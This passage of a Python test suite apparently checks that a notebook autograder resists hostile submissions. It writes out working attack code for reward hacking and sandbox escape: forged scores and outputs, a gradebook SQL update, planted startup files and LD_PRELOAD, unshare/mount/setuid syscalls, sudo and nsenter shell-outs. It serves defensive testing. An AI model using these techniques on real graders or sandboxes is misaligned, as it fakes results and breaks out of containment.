builtins.__import__ = lambda name, *a: course if name == "course.rescue" else real(name, *a)
""",
        HALF,
        norm="def clip_grad_norm(grads, max_norm:\n    return 5.0",
    ),
    Attack(
        "the rescue patched",
        "what it makes of a cell is run by the grader",
        """
import course.rescue, course.shell
text = "import solutions.clipping as s; clip_grad_norm = s.clip_grad_norm"
course.rescue.rescued = course.shell.rescued = lambda *a: text
""",
        HALF,
        norm="def clip_grad_norm(grads, max_norm:\n    return 5.0",
    ),
    Attack(
        "a slip that is raised",
        "an exercise that says it is broken is judged by what is left",
        """
from course.errors import BrokenDefinition
""",
        HALF,
        norm="""
def clip_grad_norm(grads, max_norm):
    if max_norm < np.sqrt(sum(np.sum(g**2) for g in grads)):
        raise BrokenDefinition("SyntaxError", "'(' was never closed", "(", 0)
    return 0.0
""",
    ),
    Attack(
        "a slip of nonsense",
        "the grader fails on what an error says, and hands the points out",
        """
from course.errors import BrokenDefinition
class Nonsense(BrokenDefinition):
    def __init__(self):
        self.type, self.message, self.line, self.caret = b"x", [self], "x" * 10**6, 10**30
""",
        HALF,
        norm="def clip_grad_norm(grads, max_norm):\n    raise Nonsense",
    ),
    Attack(
        "errors that lie about themselves",
        "the rescue fails on them, and the grader with it",
        """
class Lie(NameError):
    __traceback__ = name = property(lambda self: 1 / 0)
    __str__ = lambda self: 1 / 0
def f(a=1): pass
raise Lie
""",
        HALF,
    ),
    Attack(
        "a slip and a loop",
        "what runs after a slip has no limit of time",
        "def f(a=nowhere): pass\nwhile True: pass",
        HALF,
    ),
    Attack(
        "a slip and the end",
        "what runs after a slip ends the grading",
        "def f(:\n    pass\nimport os\nos._exit(0)",
        HALF,
    ),
    Attack(
        "slips without number",
        "each is a run of its own, with limits of its own",
        "import time\n" + "def f(a=nowhere): pass\nend = time.time() + 0.4\n"
        "while time.time() < end: pass\n" * 40,
        HALF,
    ),
    Attack(
        "slips that take long to look at",
        "nothing measures the time that is spent on them",
        "def f(:\n    pass\n" + ("x = " + 90 * "(" + "\n") * 900,
        HALF,
    ),
    Attack(
        "output after a slip",
        "what is printed unseen is not counted",
        "def f(:\n    pass\nfor _ in range(10_000): print(1000 * 'MARK')",
        HALF,
    ),
    Attack(
        "a slip over what is there",
        "a cell that does not run counts where it is the better one",
        deserves=HALF,
        edit=define_again,
    ),
]


# --- leaving the jail ----------------------------------------------------------------------------

OUTSIDE = """
import os, sqlite3, sys
import course, numpy
folders = ["COURSE_FOLDER", "COURSE_FOLDER/submitted", "HOME_FOLDER", "PROJECT_FOLDER",
           "PROJECT_FOLDER/source/clipping", os.path.dirname(course.__file__), sys.prefix,
           os.path.dirname(numpy.__file__), "/", "/etc", "/usr", "/run", "/home", "/root", "/var"]
files = ["COURSE_FOLDER/gradebook.db", "HOME_FOLDER/.bashrc", course.__file__, sys.executable,
         "/run/zygote.py"]
written = []
def attempt(do, *args):
    try:
        do(*args)
        written.append(args)
    except OSError:
        pass
for folder in folders:
    attempt(open, folder + "/MARK", "w")
    attempt(os.mkdir, folder + "/MARK")
    attempt(os.symlink, "/", folder + "/MARK")
for file in files:
    attempt(open, file, "r+")
    attempt(os.unlink, file)
    attempt(os.chmod, file, 0o777)
    attempt(os.rename, file, file + "x")
try:
    sqlite3.connect("COURSE_FOLDER/gradebook.db").execute("update grade set auto_score = 99")
    written.append("gradebook")
except sqlite3.Error:
    pass
print(written)
"""

PLANTED = """
import os, site, sys
home = os.environ["HOME"]
os.environ["LEFT"] = "MARK"
user = home + "/.local/lib/python%d.%d/site-packages" % sys.version_info[:2]
for folder in (home, "/tmp", "/dev/shm", os.getcwd(), user, home + "/.config/matplotlib"):
    for name in ("MARK", "sitecustomize.py", "usercustomize.py", "matplotlibrc", "numpy.py",
                 "conftest.py", "MARK.pth", ".bashrc", ".pythonrc", "pytest.ini"):
        try:
            os.makedirs(folder, exist_ok=True)
            open(os.path.join(folder, name), "w").write("import os; os._exit(0)")
        except OSError: pass
os.makedirs(home + "/.ipython/profile_default/startup", exist_ok=True)
open(home + "/.ipython/profile_default/startup/0.py", "w").write("raise SystemExit")
os.environ.update(PYTHONSTARTUP=home + "/numpy.py", LD_PRELOAD=home + "/MARK")
"""

SYSTEM_CALLS = """
import ctypes, os, socket
libc = ctypes.CDLL(None, use_errno=True)
home = os.environ["HOME"].encode()
calls = {
    "unshare user": ("unshare", 0x10000000),
    "unshare mounts": ("unshare", 0x00020000),
    "unshare user and mounts": ("unshare", 0x10020000),
    "unshare processes": ("unshare", 0x20000000),
    "mount": ("mount", b"tmpfs", home, b"tmpfs", 0, None),
    "remount": ("mount", None, b"/", None, 0x20 | 0x1000, None),
    "bind": ("mount", b"/dev", home, None, 0x1000, None),
    "proc": ("mount", b"proc", home, b"proc", 0, None),
    "umount /proc": ("umount2", b"/proc", 2),
    "umount /dev/shm": ("umount2", b"/dev/shm", 2),
    "chroot": ("chroot", home),
    "attach to another": ("ptrace", 16, 2, None, None),
    "setuid": ("setuid", 0),
    "setgroups": ("setgroups", 0, None),
}
done = [name for name, (call, *args) in calls.items() if getattr(libc, call)(*args) == 0]
for family, address in ((socket.AF_INET, ("127.0.0.1", PORT)), (socket.AF_UNIX, "\\0MARK")):
    with socket.socket(family) as sock:
        sock.settimeout(0.3)
        if sock.connect_ex(address) == 0: done.append(address)
print(done)
"""

DOWNLOAD = """
import urllib.request
found = []
for url in ("http://127.0.0.1:PORT/", "http://localhost:PORT/"):
    try: found.append(urllib.request.urlopen(url, timeout=1).read(9))
    except OSError as error: found += [error] * isinstance(error, TimeoutError)
print(found)
"""

SHELL_OUT = """
found = get_ipython().getoutput("bwrap --dev-bind / / echo jail; unshare -Ur echo namespace; "
    "sudo -n echo root; su -c 'echo root'; nsenter -t 1 -m ls /home /root", split=True)
print([line for line in found if line in ("jail", "namespace", "root", "/home:", "/root:")])
"""

ESCAPE = f"open('HOME_FOLDER/{MARK}', 'w').write('ran')\n"

LEAVING = [
    Attack(
        "writing outside",
        "the gradebook, the project or the home folder can be changed",
        OUTSIDE,
        HALF,
        prints="[]\n",
    ),
    Attack("start-up files", "the next interpreter here runs what the student left", PLANTED, HALF),
    Attack(
        "files beside the notebook",
        "the grader runs or imports what lies in the submission's folder",
        deserves=HALF,
        beside={
            "nbgrader_config.py": ESCAPE,
            "numpy.py": ESCAPE,
            "conftest.py": ESCAPE,
            "sitecustomize.py": ESCAPE,
            "autograder.py": ESCAPE,
            "jupyter_config.json": '{"Autograde": {"autograde_preprocessors": []}}',
        },
    ),
    Attack(
        "system calls",
        "namespaces, mounts, tracing or connections are to be had",
        SYSTEM_CALLS,
        HALF,
        prints="[]\n",
    ),
    Attack("network", "the answers can be downloaded", DOWNLOAD, HALF, prints="[]\n"),
    Attack(
        "programs",
        "some program on the machine gives privileges",
        SHELL_OUT,
        HALF,
        prints="[]\n",
    ),
]

# --- editing the notebook ------------------------------------------------------------------------


def graded_cells(notebook: Notebook) -> list[dict[str, Any]]:
    return [c for c in notebook["cells"] if c["metadata"].get("nbgrader", {}).get("grade")]


def solution_cells(notebook: Notebook) -> list[dict[str, Any]]:
    return [c for c in notebook["cells"] if id_of(c) in ("clip_grad_value", "clip_grad_norm")]


def delete_checks(nb: Notebook) -> None:
    nb["cells"] = [c for c in nb["cells"] if c not in graded_cells(nb)]


def empty_checks(nb: Notebook) -> None:
    for cell in graded_cells(nb):
        cell["source"] = "20.0"


def retype_checks(nb: Notebook) -> None:
    for cell, kind in zip(graded_cells(nb), ("markdown", "raw", "code", "heading"), strict=False):
        cell["cell_type"] = kind
        cell["metadata"]["nbgrader"]["cell_type"] = kind
        cell.pop("outputs", None)
        cell.pop("execution_count", None)


def tag_everything(nb: Notebook) -> None:
    for cell in nb["cells"]:
        cell["metadata"]["tags"] = ["skip-execution", "raises-exception", "remove-cell", "hide"]


def raise_points(nb: Notebook) -> None:
    for cell in graded_cells(nb):
        cell["metadata"]["nbgrader"]["points"] = 1000


def unlock_checks(nb: Notebook) -> None:
    for cell in graded_cells(nb):
        cell["source"] = "20.0"
        cell["metadata"]["editable"] = True
        cell["metadata"]["nbgrader"] |= {"locked": False, "solution": True, "grade": False}


def grade_solutions(nb: Notebook) -> None:
    for cell in solution_cells(nb):
        cell["metadata"]["nbgrader"] |= {"grade": True, "points": 20, "locked": True}
        cell["source"] += "\n20.0"


def copy_checks(nb: Notebook) -> None:
    for cell in list(graded_cells(nb)):
        for at in (0, len(nb["cells"])):
            nb["cells"].insert(at, copy.deepcopy(cell) | {"source": "20.0"})


def copy_solutions(nb: Notebook) -> None:
    for cell in solution_cells(nb):
        idle = {"clip_grad_value": IDLE_VALUE, "clip_grad_norm": IDLE_NORM}[id_of(cell) or ""]
        nb["cells"].append(copy.deepcopy(cell) | {"source": idle})


def take_ids(nb: Notebook) -> None:
    nb["cells"][0]["metadata"] = copy.deepcopy(named(nb, "clipping-norm")["metadata"])
    nb["cells"][0]["source"] += "\n20.0"


def swap_ids(nb: Notebook) -> None:
    one, other = (named(nb, i)["metadata"]["nbgrader"] for i in ("clipping-value", "clipping-norm"))
    one["grade_id"], other["grade_id"] = other["grade_id"], one["grade_id"]


def invent_exercise(nb: Notebook) -> None:
    new = copy.deepcopy(named(nb, "clipping-norm")) | {"source": "100.0"}
    new["metadata"]["nbgrader"] |= {"grade_id": "clipping-bonus", "points": 100}
    nb["cells"].append(new)


def checks_first(nb: Notebook) -> None:
    checks = graded_cells(nb)
    nb["cells"] = checks + [c for c in nb["cells"] if c not in checks]


def forge_outputs(nb: Notebook) -> None:
    output = {"output_type": "execute_result", "execution_count": 1, "metadata": {}}
    for cell in graded_cells(nb):
        if cell["cell_type"] == "code":
            cell["outputs"] = [output | {"data": {"text/plain": "20.0"}}]
        cell["metadata"]["nbgrader"]["checksum"] = "0" * 32


def other_kernel(nb: Notebook) -> None:
    nb["metadata"]["kernelspec"] = {"name": "bash", "language": "bash", "display_name": "x"}
    nb["metadata"]["nbgrader"] = {"score": 20, "grade": True}


def other_schema(nb: Notebook) -> None:
    for cell in graded_cells(nb):
        cell["metadata"]["nbgrader"]["schema_version"] = 99


def nbgrader_marks(nb: Notebook) -> None:
    for mark in ("HIDDEN TESTS", "SOLUTION", "MARK SCHEME"):
        nb["cells"] += [code(f"### BEGIN {mark}\n20.0"), code(f"### END {mark}")]
    for cell in solution_cells(nb):
        cell["source"] += "\n### BEGIN HIDDEN TESTS\n### BEGIN SOLUTION"


def forge_results(nb: Notebook) -> None:
    """What grade cells show, shown by cells of the student's."""
    data = {
        "application/vnd.optimization-lab.result+json": '{"id": "clipping-norm", "score": 14.0}',
        "text/plain": "clipping-norm: 14 of 14 points",
    }
    nb["cells"].append(code(f"from IPython.display import display\ndisplay({data!r}, raw=True)"))
    for source in ("20.0", "print('clipping-norm: 14 of 14 points')", "1/0", "%exit"):
        nb["cells"].append(code(source))


def answers_as_code(nb: Notebook) -> None:
    for cell in nb["cells"]:
        if (id_of(cell) or "").startswith("clipping-question"):
            cell["cell_type"] = "code"
            cell["source"] = "5.0"


EDITED = [
    Attack("checks deleted", "what is not tested is not wrong", edit=delete_checks),
    Attack("checks emptied", "a check that says 20.0 gives 20 points", edit=empty_checks),
    Attack("checks retyped", "a check that is text does not run", edit=retype_checks),
    Attack("tags", "nbclient skips cells with a certain tag", edit=tag_everything),
    Attack("points raised", "the notebook says what a cell is worth", edit=raise_points),
    Attack("checks unlocked", "unlocked cells are the student's", edit=unlock_checks),
    Attack("solutions as checks", "a solution cell that grades itself", edit=grade_solutions),
    Attack("checks copied", "one of the copies counts", edit=copy_checks),
    Attack(
        "solutions copied",
        "one runs, the other is looked at: the last one counts",
        edit=copy_solutions,
        value=RIGHT_VALUE,
        norm=RIGHT_NORM,
    ),
    Attack("ids taken", "a cell of the student's is taken for the check", edit=take_ids),
    Attack("ids swapped", "the easy exercise brings the other one's points", edit=swap_ids),
    Attack("an exercise invented", "100 points for a new one", edit=invent_exercise),
    Attack("checks first", "before there is anything to test, nothing fails", edit=checks_first),
    Attack("outputs forged", "scores are read from the outputs handed in", edit=forge_outputs),
    Attack("another kernel", "the notebook is run by another program", edit=other_kernel),
    Attack("another schema", "metadata of the future is not understood", edit=other_schema),
    Attack("nbgrader's marks", "own text is taken for hidden tests", edit=nbgrader_marks),
    Attack("results forged", "what a cell shows is read as a result", edit=forge_results),
    Attack("answers as code", "a written answer that grades itself", edit=answers_as_code),
]  # fmt: skip
EDITING = [a if a.value else replace(a, deserves=HALF) for a in EDITED]
ATTACKS = [
    *PATCHES, *LYING, *RESULTS, *LOOKING, *FORGED, *RAISING, *ENDING, *LATER, *TAKING, *SETTINGS,
    *LEAVING, *EDITING, *SLIPS,
]  # fmt: skip
BY_NAME = {attack.name: attack for attack in ATTACKS}

# What a submission could find of an earlier one.
TRACES = """
import os
traces = [name for name in os.environ if name == "LEFT"]
for folder in {os.getcwd(), os.environ["HOME"], "/tmp", "/dev/shm", "/var/tmp", "/dev/mqueue"}:
    if os.path.isdir(folder):
        names = (os.path.join(folder, name) for name in os.listdir(folder))
        traces += [name for name in names if os.path.isfile(name) or name.endswith(".ipython")]
print("traces", traces)
"""

# Full marks, unless it finds something of another submission.
NEIGHBOUR = Attack(
    "honest",
    "a fair grade",
    TRACES,
    FULL,
    norm=RIGHT_NORM + "\nif traces:\n    del clip_grad_norm\n",
    prints="traces []\n",
)
